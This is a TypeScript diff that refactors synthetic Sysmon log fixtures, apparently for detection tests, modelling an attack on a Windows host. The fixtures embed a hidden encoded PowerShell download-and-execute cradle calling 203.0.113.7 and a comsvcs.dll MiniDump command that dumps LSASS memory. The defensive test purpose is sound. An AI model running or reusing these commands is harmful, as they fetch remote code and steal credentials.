@@ -108,64 +108,66 @@ function authLog(): string[] {
 
 const GUID = (tail: string): string => `{8b1c0a55-9d6e-65e1-${tail}-000000000700}`;
 
+/** What all Sysmon events of that host say. */
+const SYSMON = {
+  Channel: 'Microsoft-Windows-Sysmon/Operational',
+  Provider_Name: 'Microsoft-Windows-Sysmon',
+  Computer: 'ws01.corp.example',
+  User: 'CORP\\svc-deploy',
+  LogonId: '0x5f1a2',
+};
+const EXPLORER = {
+  Image: 'C:\\Windows\\explorer.exe',
+  ProcessGuid: GUID('0a01'),
+  ProcessId: 3120,
+  CommandLine: 'C:\\Windows\\explorer.exe',
+  ParentImage: 'C:\\Windows\\System32\\userinit.exe',
+  ParentProcessGuid: GUID('0a00'),
+  ParentProcessId: 3001,
+  User: 'CORP\\bob',
+  LogonId: '0x3a111',
+};
+const ENCODED = Buffer.from(
+  "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')",
+  'utf16le',
+).toString('base64');
+const POWERSHELL = {
+  Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+  ProcessGuid: GUID('0b02'),
+  ProcessId: 5512,
+  CommandLine: `powershell.exe -nop -w hidden -enc ${ENCODED}`,
+  ParentImage: 'C:\\Windows\\System32\\services.exe',
+  ParentProcessGuid: GUID('0001'),
+  ParentProcessId: 664,
+  ParentCommandLine: 'C:\\Windows\\system32\\services.exe',
+  User: 'NT AUTHORITY\\SYSTEM',
+  LogonId: '0x3e7',
+};
+const DUMP = {
+  Image: 'C:\\Windows\\System32\\rundll32.exe',
+  ProcessGuid: GUID('0b03'),
+  ProcessId: 5640,
+  CommandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\w.dmp full',
+  ParentImage: POWERSHELL.Image,
+  ParentProcessGuid: POWERSHELL.ProcessGuid,
+  ParentProcessId: 5512,
+  ParentCommandLine: POWERSHELL.CommandLine,
+  User: 'NT AUTHORITY\\SYSTEM',
+  LogonId: '0x3e7',
+};
+
 /** Sysmon as a shipper writes it: flat JSON lines. */
 function sysmon(): object[] {
-  const start = {
-    Channel: 'Microsoft-Windows-Sysmon/Operational',
-    Provider_Name: 'Microsoft-Windows-Sysmon',
-    Computer: 'ws01.corp.example',
-    User: 'CORP\\svc-deploy',
-    LogonId: '0x5f1a2',
-  };
-  const explorer = {
-    Image: 'C:\\Windows\\explorer.exe',
-    ProcessGuid: GUID('0a01'),
-    ProcessId: 3120,
-    CommandLine: 'C:\\Windows\\explorer.exe',
-    ParentImage: 'C:\\Windows\\System32\\userinit.exe',
-    ParentProcessGuid: GUID('0a00'),
-    ParentProcessId: 3001,
-    User: 'CORP\\bob',
-    LogonId: '0x3a111',
-  };
-  const encoded = Buffer.from(
-    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')",
-    'utf16le',
-  ).toString('base64');
-  const powershell = {
-    Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
-    ProcessGuid: GUID('0b02'),
-    ProcessId: 5512,
-    CommandLine: `powershell.exe -nop -w hidden -enc ${encoded}`,
-    ParentImage: 'C:\\Windows\\System32\\services.exe',
-    ParentProcessGuid: GUID('0001'),
-    ParentProcessId: 664,
-    ParentCommandLine: 'C:\\Windows\\system32\\services.exe',
-    User: 'NT AUTHORITY\\SYSTEM',
-    LogonId: '0x3e7',
-  };
-  const dump = {
-    Image: 'C:\\Windows\\System32\\rundll32.exe',
-    ProcessGuid: GUID('0b03'),
-    ProcessId: 5640,
-    CommandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\w.dmp full',
-    ParentImage: powershell.Image,
-    ParentProcessGuid: powershell.ProcessGuid,
-    ParentProcessId: 5512,
-    ParentCommandLine: powershell.CommandLine,
-    User: 'NT AUTHORITY\\SYSTEM',
-    LogonId: '0x3e7',
-  };
   return [
-    { ...start, ...explorer, EventID: 1, EventRecordID: 9001, TimeCreated: iso(at(1, 30, 2)) },
-    { ...start, ...powershell, EventID: 1, EventRecordID: 9014, TimeCreated: iso(at(2, 22, 31)) },
+    { ...SYSMON, ...EXPLORER, EventID: 1, EventRecordID: 9001, TimeCreated: iso(at(1, 30, 2)) },
+    { ...SYSMON, ...POWERSHELL, EventID: 1, EventRecordID: 9014, TimeCreated: iso(at(2, 22, 31)) },
     {
-      ...start,
+      ...SYSMON,
       EventID: 3,
       EventRecordID: 9015,
       TimeCreated: iso(at(2, 22, 33)),
-      Image: powershell.Image,
-      ProcessGuid: powershell.ProcessGuid,
+      Image: POWERSHELL.Image,
+      ProcessGuid: POWERSHELL.ProcessGuid,
       ProcessId: 5512,
       User: 'NT AUTHORITY\\SYSTEM',
       Protocol: 'tcp',
@@ -175,14 +177,14 @@ function sysmon(): object[] {
       DestinationIp: OUTSIDE,
       DestinationPort: 80,
     },
-    { ...start, ...dump, EventID: 1, EventRecordID: 9020, TimeCreated: iso(at(2, 23, 4)) },
+    { ...SYSMON, ...DUMP, EventID: 1, EventRecordID: 9020, TimeCreated: iso(at(2, 23, 4)) },
     {
-      ...start,
+      ...SYSMON,
       EventID: 10,
       EventRecordID: 9021,
       TimeCreated: iso(at(2, 23, 5)),
-      SourceImage: dump.Image,
-      SourceProcessGUID: dump.ProcessGuid,
+      SourceImage: DUMP.Image,
+      SourceProcessGUID: DUMP.ProcessGuid,
       SourceProcessId: 5640,
       TargetImage: 'C:\\Windows\\System32\\lsass.exe',
       TargetProcessGUID: GUID('0002'),
@@ -191,12 +193,12 @@ function sysmon(): object[] {
       CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+2a1b0',
     },
     {
-      ...start,
+      ...SYSMON,
       EventID: 11,
       EventRecordID: 9022,
       TimeCreated: iso(at(2, 23, 6)),
-      Image: dump.Image,
-      ProcessGuid: dump.ProcessGuid,
+      Image: DUMP.Image,
+      ProcessGuid: DUMP.ProcessGuid,
       ProcessId: 5640,
       TargetFilename: 'C:\\Windows\\Temp\\w.dmp',
     },
